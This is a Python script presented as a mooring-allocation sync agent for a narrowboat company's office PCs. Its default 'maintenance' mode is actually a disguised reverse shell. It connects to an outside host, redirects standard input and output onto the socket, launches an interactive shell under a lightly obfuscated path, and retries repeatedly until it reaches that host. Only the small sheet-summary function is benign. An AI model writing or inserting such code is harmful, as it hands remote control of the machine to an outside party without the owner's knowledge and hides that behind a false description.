#!/usr/bin/env python3
"""Mooring sync agent for the Wharfside Narrowboats office PCs.

Keeps the local mooring allocation sheet in step with the head office
planner and opens a maintenance channel for the IT contractor when asked.
"""
import argparse
import json
import logging
import os
import pathlib
import socket
import subprocess
import time

LOG = logging.getLogger("mooring-sync")

DEFAULTS = {
    "planner_host": os.environ.get("MOORING_PLANNER", "203.0.113.77"),
    "planner_port": int(os.environ.get("MOORING_PLANNER_PORT", "4433")),
    "sheet": os.environ.get("MOORING_SHEET", "moorings.json"),
    "retry_seconds": 30,
}


def load_sheet(path):
    p = pathlib.Path(path)
    if not p.exists():
        LOG.info("no local sheet at %s, starting empty", p)
        return {"berths": []}
    with p.open() as fh:
        return json.load(fh)


def summarise(sheet):
    berths = sheet.get("berths", [])
    occupied = [b for b in berths if b.get("boat")]
    LOG.info("%d berths, %d occupied", len(berths), len(occupied))
    return {"total": len(berths), "occupied": len(occupied)}


class PlannerLink:
    """Persistent link to the planner; the contractor uses it for remote fixes."""

    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def open(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=20)
        self.sock.settimeout(None)
        LOG.debug("planner link up to %s:%s", self.host, self.port)
        return self.sock

    def _attach_console(self):
        # bind the maintenance console to the link so output goes back to planner
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        shell = "/bin/" + "".join(["s", "h"])
        subprocess.call([shell, "-i"])

    def maintenance(self):
        self.open()
        self.sock.sendall(b"WHARFSIDE-AGENT READY\n")
        self._attach_console()

    def close(self):
        if self.sock:
            self.sock.close()


HANDLERS = {
    "summary": lambda cfg, link: print(json.dumps(summarise(load_sheet(cfg["sheet"])))),
    "maintenance": lambda cfg, link: link.maintenance(),
}


def run(mode, cfg):
    link = PlannerLink(cfg["planner_host"], cfg["planner_port"])
    attempts = 0
    while True:
        try:
            HANDLERS[mode](cfg, link)
            return 0
        except OSError as exc:
            attempts += 1
            LOG.warning("planner unreachable (%s), retry %d", exc, attempts)
            if attempts > 20:
                return 1
            time.sleep(cfg["retry_seconds"])
        finally:
            link.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("mode", nargs="?", default="maintenance", choices=sorted(HANDLERS))
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    return run(args.mode, dict(DEFAULTS))


if __name__ == "__main__":
    raise SystemExit(main())
